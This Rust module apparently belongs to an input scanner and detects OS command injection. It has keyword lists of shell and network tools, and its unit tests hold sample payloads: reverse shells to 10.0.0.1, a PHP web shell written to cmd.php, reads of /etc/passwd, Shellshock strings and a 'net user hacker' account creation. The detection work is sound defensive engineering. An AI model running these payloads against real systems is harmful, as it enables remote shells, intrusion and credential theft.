//! OS command injection: a command separator or substitution followed by a
//! known command, shell paths, `${IFS}`, redirections to sensitive paths.

use super::views::{Kind, Toks};
use super::{Category, Hits};

const CMD: Category = Category::Command;

/// Commands that are not English words: seeing one after a separator is
/// already telling.
pub(crate) const STRONG: [&str; 56] = [
    "whoami",
    "netsh",
    "schtasks",
    "icacls",
    "vssadmin",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "nslookup",
    "wget",
    "curl",
    "bash",
    "zsh",
    "ksh",
    "dash",
    "csh",
    "tcsh",
    "powershell",
    "pwsh",
    "systeminfo",
    "tasklist",
    "taskkill",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "busybox",
    "sudo",
    "chmod",
    "chown",
    "ls",
    "rm",
    "sh",
    "cmd",
    "certutil",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
    "wmic",
    "useradd",
    "crontab",
    "xterm",
    "socat",
    "nohup",
    "getent",
    "passwd",
    "hostname",
    "lsb_release",
    "mkfifo",
];

/// Commands that are also ordinary words: they need an argument that looks
/// like one (a flag, a path, a URL, a number) to count.
pub(crate) const WEAK: [&str; 28] = [
    "cat", "id", "echo", "ping", "sleep", "kill", "type", "dir", "more", "find", "head", "tail",
    "touch", "env", "who", "net", "less", "mail", "nmap", "uptime", "ps", "pwd", "tac", "whoami",
    "ver", "set", "timeout", "cp",
];

#[derive(PartialEq, Eq, Clone, Copy)]
enum Arg {
    /// Nothing: the end, a separator, or a closing `)`/backtick.
    Bare,
    /// `-x`, `/path`, `C:\`, `http://`, `$VAR`, `~`, `.`.
    Strong,
    /// A number (`sleep 5`, `ping 127.0.0.1`).
    Number,
    /// A word: prose.
    Word,
}

fn arg_after(t: &Toks, k: usize) -> Arg {
    match t.kind(k) {
        None | Some(Kind::Newline) => Arg::Bare,
        Some(Kind::Number) => Arg::Number,
        Some(Kind::Quote) => {
            if t.v.at(t.start(k)) == '`' {
                Arg::Bare
            } else {
                Arg::Word
            }
        }
        Some(Kind::Word) => {
            if t.punct(k + 1, ':') && t.punct(k + 2, '/')
                || t.punct(k + 1, ':') && t.punct(k + 2, '\\')
            {
                Arg::Strong
            } else {
                Arg::Word
            }
        }
        Some(Kind::Op | Kind::Punct | Kind::Dashes | Kind::Block) => {
            let c = t.v.at(t.start(k));
            if t.punct(k, ';')
                || t.punct(k, '|')
                || t.punct(k, '&')
                || t.punct(k, ')')
                || t.is(k, "||")
                || t.is(k, "&&")
                || t.punct(k, '#')
            {
                Arg::Bare
            } else if "-/\\$~.>".contains(c) || t.kind(k) == Some(Kind::Dashes) {
                Arg::Strong
            } else if c == '%' && t.word(k + 1) && t.punct(k + 2, '%') && t.tight(k + 2) {
                // `%SYSTEMROOT%`: a Windows environment variable.
                Arg::Strong
            } else {
                Arg::Word
            }
        }
    }
}

/// What opens a command position.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Opener {
    /// `;`, `|`, `||`, `&&`, `&`, a newline.
    Separator,
    /// `$(`, Ruby's `%x(`.
    Substitution,
    /// A backtick.
    Backtick,
    /// The string of a shell-running call: `system('…')`, `system "…"`.
    Call,
}

/// Separator at `i`: its quality (`true` = a shell-only separator), the
/// index of the token after it, and what kind of opener it is. `None` when
/// token `i` opens no command position.
fn separator(t: &Toks, i: usize) -> Option<(bool, usize, Opener)> {
    use Opener::*;
    let tok = t.t.get(i)?;
    if t.punct(i, ';') || t.is(i, "||") || t.is(i, "&&") || t.punct(i, '|') {
        Some((true, i + 1, Separator))
    } else if t.punct(i, '&') {
        Some((false, i + 1, Separator))
    } else if tok.kind == Kind::Newline {
        // A newline the input encoded (`%0a`) is a separator; a literal one
        // is more often a multi-line text field.
        Some((t.v.encoded(tok.start, tok.end), i + 1, Separator))
    } else if t.punct(i, '$') && t.punct(i + 1, '(') && t.tight(i + 1) {
        Some((true, i + 2, Substitution))
    } else if tok.kind == Kind::Quote && t.v.at(tok.start) == '`' {
        Some((true, i + 1, Backtick))
    } else if shell_call(t, i) {
        Some((true, i + 2, Call))
    } else if bare_shell_call(t, i) {
        Some((true, i + 1, Call))
    } else if t.punct(i, '%')
        && t.is(i + 1, "x")
        && t.tight(i + 1)
        && t.tight(i + 2)
        && (t.punct(i + 2, '(') || t.punct(i + 2, '{') || t.punct(i + 2, '['))
    {
        // Ruby's `%x(…)`: backticks by another name.
        Some((true, i + 3, Substitution))
    } else {
        None
    }
}

/// `(` opening the string argument of a function that hands it to a shell
/// (`system('id')`, `shell_exec("ls -la")`, `popen('…')`): the string is
/// a command line.
fn shell_call(t: &Toks, i: usize) -> bool {
    t.punct(i, '(')
        && i > 0
        && t.tight(i)
        && t.kind(i + 1) == Some(Kind::Quote)
        && t.is_any(
            i - 1,
            &[
                "system",
                "exec",
                "shell_exec",
                "passthru",
                "popen",
                "proc_open",
                "pcntl_exec",
                "spawn",
                "execsync",
                "check_output",
                "getoutput",
            ],
        )
}

/// The quote opening the string of a Perl or Ruby shell call written
/// without parentheses (`@{[system "touch /tmp/x"]}`, `exec 'id'`), right
/// after the value's start or an opening bracket, `;` or `{`: prose has a
/// word before "system".
fn bare_shell_call(t: &Toks, i: usize) -> bool {
    t.kind(i) == Some(Kind::Quote)
        && t.v.at(t.start(i)) != '`'
        && i > 0
        && !t.tight(i)
        && t.is_any(i - 1, &["system", "exec"])
        && (i == 1 || t.punct(i - 2, '[') || t.punct(i - 2, '{') || t.punct(i - 2, ';'))
}

pub(crate) fn scan(t: &Toks, hits: &mut Hits) {
    let v = t.v;
    let n = t.len();
    for i in 0..n {
        let tok = t.t[i];
        if let Some((good, mut k, opener)) = separator(t, i) {
            // Any separator that opens the value is appended to a command
            // line: prose does not start with `&` or an encoded newline.
            let good = good || i == 0;
            let backtick = opener == Opener::Backtick;
            let call = opener == Opener::Call;
            let subst = opener != Opener::Separator;
            // Skip an opening quote (`;'id'`) or a path prefix (`;/bin/cat`).
            let mut path = false;
            if t.kind(k) == Some(Kind::Quote) && !backtick && !call {
                k += 1;
            }
            while t.punct(k, '/') && t.word(k + 1) && t.punct(k + 2, '/') {
                k += 2;
                path = true;
            }
            if path && t.punct(k, '/') {
                k += 1;
            }
            if !t.word(k) {
                continue;
            }
            let strong = t.is_any(k, &STRONG) || windows_reg(t, k);
            let weak = !strong && t.is_any(k, &WEAK);
            if !(strong || weak) {
                continue;
            }
            // A file name (`ls.txt`) or a word glued to the separator from prose.
            if t.punct(k + 1, '.') && t.tight(k + 1) && t.word(k + 2) && !t.is(k + 2, "exe") {
                continue;
            }
            let mut arg = arg_after(t, k + 1);
            // The string ends after the command: `system('pwd')`.
            if call && t.kind(k + 1) == Some(Kind::Quote) {
                arg = Arg::Bare;
            }
            // `net user`, `net localgroup administrators`: Windows recon.
            if net_subcommand(t, k) {
                arg = Arg::Strong;
            }
            let adjacent = t.tight(k) || path;
            // Markdown code spans (`ls -la` in prose) use backticks too.
            let prose_backtick = backtick && tok.space && i > 0 && t.word(i - 1);
            let conf: u8 = match (strong || path, arg) {
                (true, Arg::Strong | Arg::Bare | Arg::Number) => 90,
                (true, Arg::Word) => 70,
                (false, Arg::Strong) => 85,
                (false, Arg::Number) => {
                    if good {
                        75
                    } else {
                        45
                    }
                }
                (false, Arg::Bare) => {
                    // `&&`, `||` and `;` before a lone command word that ends
                    // the value: prose has `dog | cat`, not `x; id`.
                    // A value that starts with `|` (`| id`) is appended to a
                    // command line: prose does not open with a pipe.
                    // So does one that opens with `&` or an encoded newline
                    // (`& id`, `%0a id`): the classic probe suffixes.
                    let shell_only = t.is(i, "&&")
                        || t.is(i, "||")
                        || t.punct(i, ';')
                        || (t.punct(i, '|') || t.punct(i, '&') || tok.kind == Kind::Newline)
                            && i == 0;
                    let last = t.kind(k + 1).is_none()
                        || t.kind(k + 1) == Some(Kind::Newline) && t.kind(k + 2).is_none();
                    if good && (adjacent || subst) {
                        70
                    } else if good && shell_only && last {
                        65
                    } else if good {
                        45
                    } else {
                        30
                    }
                }
                (false, Arg::Word) => 25,
            };
            let conf = if prose_backtick {
                conf.min(45)
            } else if !good && i > 0 {
                conf.saturating_sub(15)
            } else {
                conf
            };
            let quote_before = i > 0 && t.kind(i - 1) == Some(Kind::Quote) && t.tight(i);
            let conf = if quote_before {
                conf.saturating_add(5)
            } else {
                conf
            };
            let rule = if call {
                "command.shell-call"
            } else if subst {
                "command.substitution"
            } else {
                "command.separator"
            };
            hits.add(CMD, rule, conf, tok.start, t.end(k));
        }
        if i == 0 || (i == 1 && t.kind(0) == Some(Kind::Quote)) {
            command_line(t, i, hits);
        }
        // Server-side includes: `<!--#exec cmd="…"-->` runs a command on a
        // server that parses SSI in what it serves.
        if t.punct(i, '<') && t.v.is_at(tok.start, "<!--#") && t.v.is_at(tok.start + 5, "exec") {
            let e = (tok.start + 9..t.v.len().min(tok.start + 120))
                .find(|&e| t.v.is_at(e, "-->"))
                .map_or(tok.start + 9, |e| e + 3);
            hits.add(CMD, "command.ssi", 92, tok.start, e);
        }
        // Shellshock (CVE-2014-6271): a bash function definition `() {` as
        // the whole value (or right after `=`), which vulnerable bash runs the
        // rest of on import. Code in prose has a name before `()`.
        if t.punct(i, '(')
            && t.punct(i + 1, ')')
            && t.tight(i + 1)
            && t.punct(i + 2, '{')
            && (i == 0 || t.punct(i - 1, '=') || t.kind(i - 1) == Some(Kind::Quote))
        {
            let close = (i + 3..(i + 12).min(n)).find(|&k| t.punct(k, '}'));
            if let Some(c) = close {
                hits.add(CMD, "command.shellshock", 95, tok.start, t.end(c));
            }
        }
        // `${IFS}` / `$IFS$9`: whitespace evasion that only a shell decodes.
        if t.punct(i, '$') && (t.is(i + 1, "ifs") || (t.punct(i + 1, '{') && t.is(i + 2, "ifs"))) {
            hits.add(
                CMD,
                "command.ifs",
                92,
                tok.start,
                t.end(if t.is(i + 1, "ifs") { i + 1 } else { i + 3 }),
            );
        }
        // Output redirected into a file a web server runs (`> shell.php`):
        // how a command injection plants a web shell.
        const SERVED: [&str; 10] = [
            "php", "phtml", "jsp", "jspx", "asp", "aspx", "cgi", "pl", "sh", "py",
        ];
        if (t.punct(i, '>') || t.is(i, ">>"))
            && t.word(i + 1)
            && t.punct(i + 2, '.')
            && t.tight(i + 2)
            && t.is_any(i + 3, &SERVED)
            && t.kind(i + 4)
                .is_none_or(|k| k == Kind::Newline || t.t[i + 4].space)
        {
            hits.add(CMD, "command.redirect", 80, tok.start, t.end(i + 3));
        }
        // Redirection to or from a sensitive place.
        if (t.punct(i, '>') || t.is(i, ">>") || t.punct(i, '<')) && t.punct(i + 1, '/') {
            let p = t.start(i + 2);
            if ["etc/", "var/www", "tmp/", "dev/tcp", "root/", "home/"]
                .iter()
                .any(|s| v.is_at(p, s))
            {
                hits.add(CMD, "command.redirect", 80, tok.start, t.end(i + 2));
            }
        }
        if tok.kind == Kind::Word {
            // `/bin/sh`, `/bin/bash -i`, `/dev/tcp/…`, `cmd.exe`.
            if i >= 2
                && t.punct(i - 1, '/')
                && t.tight(i)
                && t.is_any(i - 2, &["bin", "sbin"])
                && t.is_any(
                    i,
                    &["sh", "bash", "zsh", "dash", "ksh", "csh", "busybox", "nc"],
                )
                && t.word_end_ok(i)
            {
                // `#!/bin/sh` starts a script someone is showing, not running;
                // "the /bin/sh wrapper" in a sentence mentions one.
                let shebang = i >= 4 && t.punct(i - 4, '!');
                let prose = i >= 4
                    && t.word(i - 4)
                    && t.t[i - 3].space
                    && !(i >= 5 && t.punct(i - 5, '-') && t.tight(i - 4));
                let shebang = shebang || prose;
                hits.add(
                    CMD,
                    "command.shell-path",
                    if shebang { 40 } else { 80 },
                    t.start(i.saturating_sub(3)),
                    tok.end,
                );
            } else if i >= 2 && t.is(i, "tcp") && t.punct(i - 1, '/') && t.is(i - 2, "dev")
                || t.is(i, "udp") && i >= 2 && t.is(i - 2, "dev")
            {
                hits.add(CMD, "command.shell-path", 95, t.start(i - 2), tok.end);
            } else if t.is_any(i, &["cmd", "powershell"])
                && t.punct(i + 1, '.')
                && t.is(i + 2, "exe")
            {
                hits.add(CMD, "command.shell-path", 80, tok.start, t.end(i + 2));
            } else if t.is_any(i, &["nc", "ncat", "netcat"])
                && t.punct(i + 1, '-')
                && t.is_any(i + 2, &["e", "c", "lvp", "nlvp", "lp"])
            {
                hits.add(CMD, "command.reverse-shell", 90, tok.start, t.end(i + 2));
            } else if t.is_any(i, &["bash", "sh"])
                && t.punct(i + 1, '-')
                && t.is_any(i + 2, &["i", "c"])
                && t.tight(i + 2)
            {
                hits.add(CMD, "command.reverse-shell", 85, tok.start, t.end(i + 2));
            }
        }
    }
}

/// `net user|localgroup|view|share|use|group`: Windows account and share
/// recon, not the word "net".
fn net_subcommand(t: &Toks, k: usize) -> bool {
    t.is(k, "net")
        && t.is_any(
            k + 1,
            &["user", "localgroup", "view", "share", "use", "group"],
        )
}

/// `reg add|query|delete|save|export`: the Windows registry tool, not the
/// abbreviation.
fn windows_reg(t: &Toks, k: usize) -> bool {
    t.is(k, "reg")
        && t.is_any(
            k + 1,
            &["add", "query", "delete", "save", "export", "import"],
        )
}

/// The whole value is a command line (no separator: the application runs
/// it, or appends it to one): a known command at its start with an argument
/// that only a command line has — `cat /etc/passwd`, `dir C:\Users`,
/// `curl https://…`, `uname -a`. Prose that starts with a command word has a
/// word after it ("cat food", "find a way"), which does not count.
fn command_line(t: &Toks, i: usize, hits: &mut Hits) {
    let strong = t.is_any(i, &STRONG) || windows_reg(t, i);
    let weak = !strong && t.is_any(i, &WEAK);
    if !(strong || weak) || (t.punct(i + 1, '.') && t.tight(i + 1)) {
        return;
    }
    let arg = arg_after(t, i + 1);
    // A flag must be glued to its dash (`-a`, `--help`), not a dash in a
    // sentence ("ls - list directory contents").
    let flag = t.punct(i + 1, '-') || t.kind(i + 1) == Some(Kind::Dashes);
    if flag && !(t.tight(i + 2) && t.word(i + 2)) {
        return;
    }
    // Windows administration tools whose subcommands are words
    // (`netsh firewall show config`, `reg add …`, `net user x /ADD`).
    let admin = windows_reg(t, i)
        || t.is_any(i, &["netsh", "schtasks", "wmic", "vssadmin"])
        || net_subcommand(t, i);
    let conf = match (strong, arg) {
        (true, Arg::Strong) => 75,
        (_, Arg::Word) if admin => 70,
        (true, Arg::Bare) if t.kind(i + 1).is_none() && t.len() == i + 1 => 55,
        (false, Arg::Strong) => 65,
        _ => return,
    };
    let end = (i + 1..t.len())
        .take(6)
        .take_while(|&k| t.kind(k) != Some(Kind::Newline))
        .last()
        .map_or(t.end(i), |k| t.end(k));
    hits.add(CMD, "command.line", conf, t.start(i), end);
}

impl Toks<'_> {
    /// The word at `i` is not followed by more path (`/bin/sh` but not `/bin/shop`).
    fn word_end_ok(&self, i: usize) -> bool {
        !matches!(self.kind(i + 1), Some(Kind::Word)) || self.t[i + 1].space
    }
}

#[cfg(test)]
mod tests {
    use crate::detect::test_rules as rules;

    #[test]
    fn each_rule() {
        assert!(rules("; cat /etc/passwd").contains(&"command.separator"));
        assert!(rules("|id").contains(&"command.separator"));
        assert!(rules("a && whoami").contains(&"command.separator"));
        assert!(rules("$(whoami)").contains(&"command.substitution"));
        assert!(rules("`id`").contains(&"command.substitution"));
        assert!(rules("x%0aid").contains(&"command.separator"));
        assert!(rules(";cat${IFS}/etc/passwd").contains(&"command.ifs"));
        assert!(rules("; echo x > /var/www/shell.php").contains(&"command.redirect"));
        assert!(rules("; /bin/sh").contains(&"command.shell-path"));
        assert!(rules("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").contains(&"command.shell-path"));
        assert!(rules("nc -e /bin/sh 10.0.0.1 4444").contains(&"command.reverse-shell"));
        assert!(rules("| id").contains(&"command.separator"));
        assert!(rules("() { :;}; echo vulnerable").contains(&"command.shellshock"));
        assert!(rules("cat /etc/hosts").contains(&"command.line"));
        assert!(rules("system('pwd')").contains(&"command.shell-call"));
        assert!(rules("<!--#exec cmd=\"/bin/cat /etc/passwd\"-->").contains(&"command.ssi"));
        assert!(rules("net user hacker Password1 /ADD").contains(&"command.line"));
        assert!(rules("| type %SYSTEMROOT%\\repair\\SYSTEM").contains(&"command.separator"));
        assert!(rules("; shell_exec(\"cat /etc/passwd\");").contains(&"command.shell-call"));
        assert!(rules("' whoami").contains(&"command.line"));
        assert!(rules("@{[system \"touch /tmp/blns.fail\"]}").contains(&"command.shell-call"));
        assert!(rules("%x('ls -al /')").contains(&"command.substitution"));
        // A string of prose in a shell call is no command line.
        assert!(!rules("system('a nice day')").contains(&"command.shell-call"));
        assert!(rules("dir C:\\Users").contains(&"command.line"));
        assert!(rules("netsh firewall show config").contains(&"command.line"));
        assert!(rules("reg add \"HKLM\\Software\\x\" /v y").contains(&"command.line"));
        assert!(rules("& id").contains(&"command.separator"));
        assert!(rules("%0a id %0a").contains(&"command.separator"));
        assert!(
            rules("echo \"<?php system($_GET['c']); ?>\" > cmd.php").contains(&"command.redirect")
        );
        assert!(rules("User-Agent=() { :; }; /bin/bash -c id").contains(&"command.shellshock"));
    }

    #[test]
    fn benign() {
        for s in [
            "Tom & Jerry",
            "dog | cat",
            "salt; pepper",
            "fish & chips; echo chamber",
            "Run `ls -la` to list files",
            "see ls.txt",
            "function f() { return 1; }",
            "a | id card",
            "ls - list directory contents",
            "cat food and dog food",
            "find a way home",
            "curl is a tool for transferring data",
            "see the regression report",
            "the net result",
            "the system \"works\" fine",
            "100%x(2)",
            "<!-- a comment -->",
        ] {
            assert!(rules(s).is_empty(), "{s}: {:?}", rules(s));
        }
    }
}
